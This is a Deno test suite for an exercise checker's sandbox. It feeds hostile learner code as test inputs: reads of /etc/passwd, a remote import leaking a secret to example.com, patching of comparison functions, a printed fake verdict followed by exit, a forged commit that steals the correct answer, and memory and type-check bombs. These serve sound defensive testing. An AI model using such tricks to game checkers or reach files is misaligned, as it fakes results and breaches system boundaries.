// The sandbox against a learner's code that tries what it should not: read
// a file, import the solution or the reference, reach the network, patch what
// the checker uses, print a verdict, end the process, steal a correct value,
// run forever, print without end, use all the memory, or make the type check
// work without end. None of it passes, and each is stopped within its bound.
// Needs --allow-read --allow-write --allow-run; plain `deno test` skips these
// visibly and .ci/run runs them.

import assert from "node:assert/strict";
import { join } from "node:path";
import { EXERCISES } from "../../../chapters/exercises/specs.ts";
import { canUseFiles, checkText, edited, fsTest as test, SKIP, solvedStub } from "./testing.ts";
import { fromFileUrl } from "../../paths.ts";

if (!canUseFiles) console.log(`sandbox_fs_test.ts: ${SKIP}`);

const fsTest = (name: string, fn: (workspace: string) => Promise<void>) => test("sandbox_fs_test.ts", name, fn);

const STUB = EXERCISES[3].stub;
/** Exercise 3's stub with `code` at the top level, before gradients(). */
const atTop = (code: string, text = STUB) =>
  edited(text, [["\n/** Your gradients of the cross-entropy", `\n${code}\n/** Your gradients of the cross-entropy`]]);
/** Exercise 3's text with `code` at the start of gradients(). */
const inGradients = (code: string, text = STUB) =>
  edited(text, [[/(\n {2}const \{ logprobs, probs)/, `\n  ${code}$1`]]);
/** Exercise 3's text with `code` just before gradients() returns. */
const beforeReturn = (code: string, text = STUB) => edited(text, [[/(\n {2}return \{ dlogprobs)/, `\n  ${code}$1`]]);

/** Fast limits for the tests that run into them: 1 s for the learner's code, 5 s for each process. */
const FAST = { codeMs: 1000, startupMs: 3000 };

fsTest(
  "imports outside lib/tensor.ts and lib/exercise/learner.ts are refused, each on its line, before the file runs",
  async (workspace) => {
    const text = edited(
      STUB,
      [[
        'import { type ExerciseInput, todo } from "../../lib/exercise/learner.ts";',
        [
          'import { type ExerciseInput, todo } from "../../lib/exercise/checker.ts";',
          'import passwd from "/etc/passwd" with { type: "text" };',
          'import config from "../../deno.json" with { type: "json" };',
          'import { backpropCrossEntropy } from "../03_cross_entropy.ts";',
          'import { referenceGradients } from "../../lib/check/reference.ts";',
          'import * as tf from "@tensorflow/tfjs";',
        ].join("\n"),
      ]],
    );
    const { result, output, flat, lineOf, ms } = await checkText(workspace, 3, text);
    assert.equal(result, 1);
    assert.match(flat, /03_cross_entropy\.ts imports what an exercise file may not, so it was not run/);
    assert.match(
      flat,
      new RegExp(
        `:${lineOf("checker.ts")}:\\d+: todo and ExerciseInput now come from lib/exercise/learner\\.ts: ` +
          `write import \\{ type ExerciseInput, todo \\} from "\\.\\./\\.\\./lib/exercise/learner\\.ts";`,
      ),
    );
    for (const what of ["/etc/passwd", "../../deno.json", "../03_cross_entropy.ts", "../../lib/check/reference.ts"]) {
      assert.match(flat, new RegExp(`:${lineOf(what)}:\\d+: "${what.replaceAll(".", "\\.")}" is refused`));
    }
    assert.match(flat, new RegExp(`:${lineOf("@tensorflow")}:\\d+: "@tensorflow/tfjs" is refused`));
    assert.doesNotMatch(output, /root:|gradient\s+line\s+status/);
    assert.ok(ms < 30_000, `took ${ms} ms`);
  },
);

fsTest(
  "the sandbox's process loads only modules that hold no correct value: the runtime, the hooks, the tensor module",
  async () => {
    const runtime = new URL("./runtime.ts", import.meta.url).href;
    const { stdout } = await new Deno.Command("deno", { args: ["info", "--json", fromFileUrl(runtime)] }).output();
    const graph = JSON.parse(new TextDecoder().decode(stdout)) as {
      modules: { specifier: string; dependencies?: { code?: { specifier?: string } }[] }[];
    };
    const loaded = new Set<string>();
    const visit = (specifier: string) => {
      if (loaded.has(specifier)) return;
      loaded.add(specifier);
      const module = graph.modules.find((m) => m.specifier === specifier);
      for (const d of module?.dependencies ?? []) if (d.code?.specifier) visit(d.code.specifier);
    };
    visit(runtime); // what runs: type-only imports are not loaded
    const names = [...loaded].map((s) => s.slice(new URL("../../../", import.meta.url).href.length)).sort();
    assert.deepEqual(names, [
      "lib/commands/exercise/runtime.ts",
      "lib/exercise/hooks.ts",
      "lib/exercise/learner.ts",
      "lib/exercise/marks.ts",
      "lib/exercise/runner.ts",
      "lib/exercise/wire.ts",
      "lib/tensor.ts",
    ]);
  },
);

fsTest(
  "the learner's code reaches nothing as it runs: no computed import, file, network, environment or process",
  async (workspace) => {
    const attempts = `const attempts: [string, () => unknown][] = [
  ["text", () => import("file:///etc/" + "passwd", { with: { type: "text" } })],
  ["solution", () => import(new URL("../03_cross_" + "entropy.ts", "${
      new URL("../../../chapters/yours/", import.meta.url).href
    }").href)],
  ["reference", () => import("${new URL("../../check/", import.meta.url).href}" + "reference.ts")],
  ["specs", () => import("${new URL("../../../chapters/exercises/", import.meta.url).href}" + "specs.ts")],
  ["remote", () => import("https://example.com/x.ts?leak=" + "secret")],
  ["npm", () => import("npm:" + "asciichart")],
  ["read", () => Deno.readTextFileSync("/etc/passwd")],
  ["write", () => Deno.writeTextFileSync("/tmp/sandbox-test", "x")],
  ["env", () => Deno.env.get("HOME")],
  ["run", () => new Deno.Command("true").outputSync()],
  ["net", () => Deno.connect({ hostname: "127.0.0.1", port: 9 })],
];
for (const [what, attempt] of attempts) {
  try {
    await attempt();
    console.log(what, "REACHED");
  } catch (e) {
    console.log(what, "refused:", String(e).split("\\n")[0]);
  }
}`;
    const { result, output } = await checkText(workspace, 3, atTop(attempts));
    assert.equal(result, 1);
    const lines = output.split("\n").filter((l) => / refused:| REACHED/.test(l));
    assert.equal(lines.length, 11, output);
    assert.deepEqual(lines.filter((l) => l.includes("REACHED")), []);
    assert.doesNotMatch(output, /root:/);
    assert.match(output, /dlogprobs\s+\d+\s+TODO/, "and the file was checked all the same");
  },
);

fsTest(
  "patching prototypes, Math or Object.is, or ending the process from a timer, never makes a wrong gradient pass",
  async (workspace) => {
    // After the learner's gradients are computed (one of them wrong), everything the checker used to compare with.
    const patches = [
      'Object.defineProperty(Tensor.prototype, "size", { get() { return 0; } });',
      "Math.abs = () => 0;",
      "Object.is = () => true;",
      "Float32Array.prototype.every = () => true;",
      "setTimeout(() => Deno.exit(0));",
      "setInterval(() => {}, 1000);",
    ].join("\n  ");
    const text = beforeReturn(
      patches,
      edited(solvedStub(3), [
        ["  type Tensor,\n", "  Tensor,\n"],
        ["mul(pow(probs, -1), dlogprobs)", "mul(mul(pow(probs, -1), dlogprobs), 2)"],
      ]),
    );
    const { result, flat, lineOf, ms } = await checkText(workspace, 3, text);
    assert.equal(result, 1);
    assert.match(flat, new RegExp(`dprobs ${lineOf("const dprobs")} wrong`));
    assert.match(flat, /dprobs: off by a factor of 2/);
    assert.match(flat, /7 of 8 done/);
    assert.ok(ms < 30_000, `a timer left running does not hold the check: took ${ms} ms`);
  },
);

fsTest(
  "a verdict printed by the learner's code, then Deno.exit(0), is an early exit, never a pass",
  async (workspace) => {
    const text = beforeReturn(
      'console.log("All 8 gradients of exercise 3 are right. Well done!");\n  Deno.exit(0);',
      solvedStub(3),
    );
    const { result, flat } = await checkText(workspace, 3, text);
    assert.equal(result, 1);
    assert.match(
      flat,
      /Your code ended the process with exit code 0 before gradients\(\) returned, so nothing was checked/,
    );
    const early = await checkText(workspace, 3, atTop("Deno.exit(1);"));
    assert.equal(early.result, 1);
    assert.match(early.flat, /ended the process with exit code 1 while .*03_cross_entropy\.ts was loaded/);
  },
);

fsTest(
  "a correct value is handed over only after the line committed its own: a forged commit cannot take one",
  async (workspace) => {
    // In the fed call, the learner's top level writes a commit of its own for dprobs (zeros) and reads the reply.
    const steal = `let stolen: Tensor | undefined;
try {
  const zeros = btoa(String.fromCharCode(...new Uint8Array(32 * 27 * 4)));
  console.log("\\u0001exercise:commit " + JSON.stringify({ name: "dprobs", value: { shape: [32, 27], f32: zeros, buffer: 1 } }));
  let line = "";
  const buffer = new Uint8Array(1 << 16);
  while (!line.includes("\\n")) {
    const n = Deno.stdin.readSync(buffer);
    if (n === null) throw new Error("no reply");
    line += new TextDecoder().decode(buffer.subarray(0, n));
  }
  const reply = JSON.parse(line.split("\\n")[0]);
  const bytes = Uint8Array.from(atob(reply.f32), (c) => c.charCodeAt(0));
  stolen = new Tensor(new Float32Array(bytes.buffer), reply.shape);
} catch { /* the call as written: no reply */ }`;
    const text = atTop(
      steal,
      edited(solvedStub(3), [
        ["  type Tensor,\n", "  Tensor,\n"],
        [/const dlogprobs = ([^;]*);/, "const dlogprobs = mul($1, 2);"],
        [/const dprobs = ([^;]*);/, "const dprobs = stolen ?? mul($1, 3);"],
      ]),
    );
    const { result, flat, lineOf } = await checkText(workspace, 3, text);
    assert.equal(result, 1);
    // Its line returned the stolen value (else the call would have waited on the reply, or dprobs be off by 3)…
    assert.match(flat, new RegExp(`dprobs ${lineOf("const dprobs")} wrong \\*`));
    // …and dprobs is judged by what was committed first: the forged zeros.
    assert.match(flat, new RegExp(`line ${lineOf("const dprobs")}, dprobs: it is all zeros`));
    assert.match(flat, /dcountsSumInv \d+ approximately equal \*/);
  },
);

fsTest(
  "a run is stopped from outside, whatever it prints: the runtime's own marks, a Proxy that never answers",
  async (workspace) => {
    const forged = await checkText(
      workspace,
      3,
      inGradients('console.log("\\u0001exercise:timer off");\n  for (;;) {}'),
      FAST,
    );
    assert.equal(forged.result, 1);
    assert.match(
      forged.flat,
      /took [\d.]+ s in all without finishing, so it was stopped: a run is stopped after 5 s, whatever it prints/,
    );
    assert.ok(forged.ms < 30_000, `took ${forged.ms} ms`);
    const proxy = await checkText(
      workspace,
      3,
      beforeReturn("return new Proxy({}, { ownKeys() { for (;;) {} } });"),
      FAST,
    );
    assert.match(proxy.flat, /Your gradients\(\) ran for 1 s without returning, so it was stopped/);
    assert.ok(proxy.ms < 30_000, `took ${proxy.ms} ms`);
  },
);

fsTest("the learner's memory is capped: the heap, and the array buffers beside it", async (workspace) => {
  const heap = await checkText(
    workspace,
    3,
    inGradients("const keep: number[][] = [];\n  for (;;) keep.push(new Array(1e6).fill(1.5));"),
    { heapMb: 128 },
  );
  assert.equal(heap.result, 1);
  assert.match(heap.flat, /Your code needed more memory than it may use \(128 MB of JavaScript heap, 1024 MB in all\)/);
  const buffers = await checkText(
    workspace,
    3,
    inGradients(
      "const keep: Float32Array[] = [];\n  for (let i = 0; i < 16; i++) keep.push(new Float32Array(2 ** 26).fill(1));",
    ),
    { dataMb: 512 },
  );
  assert.equal(buffers.result, 1);
  assert.match(
    buffers.flat,
    /Your gradients\(\) threw at .*: Array buffer allocation failed|needed more memory than it may use \(512 MB of JavaScript heap, 512 MB in all\)/,
    "stopped at 512 MB, not at 4 GB",
  );
});

fsTest("200 MB printed is cut to what fits, counted, and never held", async (workspace) => {
  let peak = Deno.memoryUsage().rss;
  const before = peak;
  const sampler = setInterval(() => peak = Math.max(peak, Deno.memoryUsage().rss), 20);
  const text = inGradients('const line = "x".repeat(100_000);\n  for (let i = 0; i < 2000; i++) console.log(line);');
  // 200 MB through a pipe can take longer than the usual 5 s on a loaded machine: the count is what is tested here.
  const { result, output } = await checkText(workspace, 3, text, { codeMs: 30_000 }).finally(() =>
    clearInterval(sampler)
  );
  assert.equal(result, 1);
  const kept = output.split("\n").filter((l) => l.startsWith("xxx"));
  assert.ok(kept.length > 0 && kept.every((l) => l.endsWith("… (100,000 bytes)")));
  const cut = Number(output.match(/… ([\d,]+) more lines cut/)![1].replaceAll(",", ""));
  assert.equal(kept.length + cut, 2000);
  assert.ok(output.length < 80_000, `${output.length} characters shown`);
  assert.ok(peak - before < 150 * 2 ** 20, `the checker grew by ${((peak - before) / 2 ** 20).toFixed(0)} MB`);
  assert.match(output, /dlogprobs\s+\d+\s+TODO/);
});

/** Types that keep TypeScript's checker busy for long and take GBs (seven lines). */
const HEAVY_TYPES = `type D = "0"|"1"|"2"|"3"|"4"|"5"|"6"|"7"|"8"|"9";
type A = \`\${D}\${D}\${D}\${D}\`;
type C<T extends string> = T extends \`\${infer X}\${infer Y}\` ? [X, ...C<Y>, X] : [];
type E = { [K in A]: C<\`\${K}\${K}\${K}\${K}\`> };
type G = { [K in A]: E[K] extends [infer H, ...infer _] ? \`\${H & string}\${K}\` : never }[A];
export const g: G = "${crypto.randomUUID()}" as G;`;

fsTest("the type check is bounded in time and in memory", async (workspace) => {
  const slow = await checkText(workspace, 3, atTop(HEAVY_TYPES), { typeCheckMs: 3000 });
  assert.equal(slow.result, 1);
  assert.match(slow.flat, /Type checking .*03_cross_entropy\.ts took more than 3 s, so it was stopped/);
  assert.ok(slow.ms < 20_000, `took ${slow.ms} ms`);
  const big = await checkText(
    workspace,
    3,
    atTop(HEAVY_TYPES.replace(/"[\w-]+" as G/, `"${crypto.randomUUID()}" as G`)),
    {
      typeCheckHeapMb: 96,
    },
  );
  assert.equal(big.result, 1);
  assert.match(
    big.flat,
    /Type checking .*03_cross_entropy\.ts needed more than the 96 MB it may use, so it was stopped/,
  );
  assert.ok(big.ms < 40_000, `took ${big.ms} ms`);
});

fsTest("throw null, throw 42 and an async gradients() say what they are", async (workspace) => {
  const nothing = await checkText(workspace, 3, inGradients("throw null;"));
  assert.match(nothing.flat, /Your gradients\(\) threw null /);
  const answer = await checkText(
    workspace,
    3,
    atTop(
      "function boom(t: Tensor): Tensor {\n  if (t) throw 42;\n  return t;\n}",
      edited(solvedStub(3), [[/const dprobs = ([^;]*);/, "const dprobs = boom($1);"]]),
    ),
  );
  assert.match(answer.flat, new RegExp(`line ${answer.lineOf("const dprobs")}, dprobs: threw 42`));
  assert.match(answer.flat, /dcountsSumInv \d+ approximately equal \*/, "and the lines below are checked");
  const later = await checkText(
    workspace,
    3,
    edited(STUB, [["export function gradients(", "export async function gradients("], [
      "): Record<string, Tensor> {",
      "): Promise<Record<string, Tensor>> {",
    ]]),
  );
  assert.equal(later.result, 1);
  assert.match(later.flat, /gradients\(\) must return the object, not a Promise: remove async\/await/);
});

/** The processes running, as `ps` lists them (reading /proc needs --allow-all). */
function processes(): { pid: number; ppid: number; args: string }[] {
  const { stdout } = new Deno.Command("ps", { args: ["-eo", "pid=,ppid=,stat=,args="] }).outputSync();
  return new TextDecoder().decode(stdout).split("\n").flatMap((line) => {
    const m = line.match(/^\s*(\d+)\s+(\d+)\s+(\S+)\s+(.*)$/);
    return m && !m[3].startsWith("Z") ? [{ pid: Number(m[1]), ppid: Number(m[2]), args: m[4] }] : [];
  });
}

/** The pid of the sandbox's process that runs `runtime` under the process `parent`, once it is there. */
async function sandboxOf(parent: number, runtime: string): Promise<number> {
  for (let tries = 0; tries < 600; tries++) {
    const all = processes();
    const parentOf = new Map(all.map((p) => [p.pid, p.ppid]));
    const found = all.find((p) => {
      if (!p.args.startsWith("deno run") || !p.args.includes(runtime)) return false;
      let up = p.ppid;
      for (let hops = 0; hops < 3 && up !== parent && up > 1; hops++) up = parentOf.get(up) ?? 0;
      return up === parent;
    });
    if (found) return found.pid;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error("the sandbox's process never started");
}

const alive = (pid: number) => processes().some((p) => p.pid === pid);

const linux = canUseFiles && (() => {
  try {
    const ok = (command: string) =>
      new Deno.Command(command, { args: ["--version"], stdout: "null", stderr: "null" }).outputSync().success;
    return ok("timeout") && ok("ps");
  } catch {
    return false;
  }
})();

Deno.test({
  name: linux
    ? "stopping the checker stops the learner's process: SIGTERM before the checker exits, SIGKILL by the watchdog"
    : "stopping the checker stops the learner's process (sandbox_fs_test.ts: skipped: needs coreutils' timeout, ps and the permissions)",
  ignore: !linux,
  async fn() {
    const workspace = fromFileUrl(
      new URL(`../../../chapters/yours-test-${crypto.randomUUID().slice(0, 8)}/`, import.meta.url),
    );
    const runtime = fromFileUrl(new URL("./runtime.ts", import.meta.url));
    const command = fromFileUrl(new URL("./command.ts", import.meta.url));
    try {
      await Deno.mkdir(workspace, { recursive: true });
      const script = join(workspace, "check.ts");
      await Deno.writeTextFile(
        script,
        `import { exerciseCommand } from "${command}";\nDeno.exitCode = await exerciseCommand(["3"], "${workspace}", ${
          JSON.stringify(FAST)
        });\n`,
      );
      await Deno.writeTextFile(
        join(workspace, "03_cross_entropy.ts"),
        inGradients('console.log("\\u0001exercise:timer off");\n  for (;;) {}'),
      );
      for (const signal of ["SIGTERM", "SIGKILL"] as const) {
        const checker = new Deno.Command("deno", { args: ["run", "-A", script], stdout: "null", stderr: "null" })
          .spawn();
        const sandbox = await sandboxOf(checker.pid, runtime);
        await new Promise((r) => setTimeout(r, 2000)); // past its marks, in the loop that prints nothing
        const started = performance.now();
        checker.kill(signal);
        const status = await checker.status;
        const gone = async () => {
          while (alive(sandbox)) await new Promise((r) => setTimeout(r, 50));
          return performance.now() - started;
        };
        if (signal === "SIGTERM") {
          assert.equal(status.code, 143);
          assert.ok(!alive(sandbox), "the learner's process is gone before the checker's exit");
        } else {
          const ms = await gone();
          const watchdog = 2 * FAST.codeMs + FAST.startupMs + 2000; // timeout's own deadline
          assert.ok(
            ms < watchdog + 2000,
            `killed ${ms} ms after the checker, the watchdog's deadline is ${watchdog} ms`,
          );
        }
      }
    } finally {
      await Deno.remove(workspace, { recursive: true }).catch(() => {});
    }
  },
});
